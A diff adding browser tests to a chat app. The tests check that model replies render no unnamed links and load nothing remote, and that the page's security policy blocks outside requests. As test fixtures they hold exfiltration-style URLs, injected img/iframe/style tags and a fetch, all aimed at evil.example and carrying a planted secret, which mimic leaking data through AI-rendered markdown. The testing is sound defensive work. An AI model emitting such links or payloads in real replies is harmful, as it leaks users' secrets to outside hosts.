@@ -261,7 +261,7 @@ test("Markdown becomes elements, and nothing that could run or load", async () =
     const page = await openChat();
     await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
     script(page, [...PROSE].map((content) => ({ content })));
-    await say(page, "Show it");
+    await say(page, "Show it, and https://example.org/a_(b) with https://example.org/x.png");
     await untilAnswered(page);
     const prose = reply(page).locator(".prose");
     const shape = await prose.evaluate((node) => ({
@@ -283,6 +283,69 @@ test("Markdown becomes elements, and nothing that could run or load", async () =
     await until("the code is in the clipboard", async () =>
         await page.evaluate(() => navigator.clipboard.readText()) === 'const a = "<i>";');
     assertNoProblems(page);
+    await page.context().close();
+});
+
+test("an address that nobody had named is no link, and nothing remote is loaded", async () => {
+    const secret = "The code of the safe is 48213 and the key lies in the blue drawer.";
+    const away = "blue drawer safe 48213";
+    const bad = [
+        "https://evil.example/",
+        "https://evil.example/?d=48213",
+        `https://docs.example.org/?d=${encodeURIComponent(away)}`,
+        `https://docs.example.org/?d=${btoa(away)}`,
+        "https://docs.example.org/48213.png",
+        "https://docs.example.org/blue/drawer/safe/code/lies/x",
+        `https://docs.example.org/${"k".repeat(40)}`,
+        "https://docs.example.org.evil.example/",
+        "https://docs.example.org@evil.example/",
+        "https://48213.evil.example/",
+        "mailto:thief@evil.example?body=48213",
+    ];
+    const good = ["https://docs.example.org/guide", "https://docs.example.org/",
+        "https://docs.example.org/seen?page=2"];
+    const forms = [(one) => one, (one) => `[here](${one})`, (one) => `![x](${one})`,
+        (one) => `<${one}>`];
+    const page = await openChat();
+    await page.evaluate((text) => localStorage.setItem("weft.chat-settings",
+        JSON.stringify({ system: text })), "");
+    for (const form of forms) {
+        const text = [...bad, ...good].map((one) => form(one)).join("\n\n");
+        script(page, [{ content: text }, { content: "\n\n<img src=https://evil.example/p.png>" +
+            "<iframe src='https://evil.example/'></iframe>" +
+            "<style>@import 'https://evil.example/s.css';</style>" }]);
+        await page.getByRole("button", { name: "New chat" }).click();
+        await page.locator(".chat-hello").waitFor();
+        await say(page, `${secret} See docs.example.org and https://docs.example.org/seen?page=2`);
+        await untilAnswered(page);
+        const links = await reply(page).locator(".prose a").evaluateAll((all) =>
+            all.map((one) => one.getAttribute("href")));
+        assert.deepEqual(links, good, form("..."));
+        // what is no link is still to be seen, in full
+        const shown = await reply(page).locator(".prose").innerText();
+        for (const one of bad) assert.ok(shown.includes(one), one);
+        assert.equal(await reply(page).locator("img, iframe, style, script").count(), 0);
+    }
+    assertNoProblems(page); // also: no stranger was asked for anything
+    await page.context().close();
+});
+
+test("the page may load nothing from elsewhere, whatever stands in it", async () => {
+    const page = await openChat();
+    const blocked = await page.evaluate(() => new Promise((resolve) => {
+        const seen = [];
+        document.addEventListener("securitypolicyviolation", (event) => {
+            seen.push(event.effectiveDirective);
+            if (seen.length === 3) resolve(seen.sort());
+        });
+        const image = document.createElement("img");
+        image.src = "https://evil.example/p.png?d=48213";
+        const frame = document.createElement("iframe");
+        frame.src = "https://evil.example/";
+        document.body.append(image, frame);
+        fetch("https://evil.example/?d=48213").catch(() => {});
+    }));
+    assert.deepEqual(blocked, ["connect-src", "frame-src", "img-src"]);
     await page.context().close();
 });
 
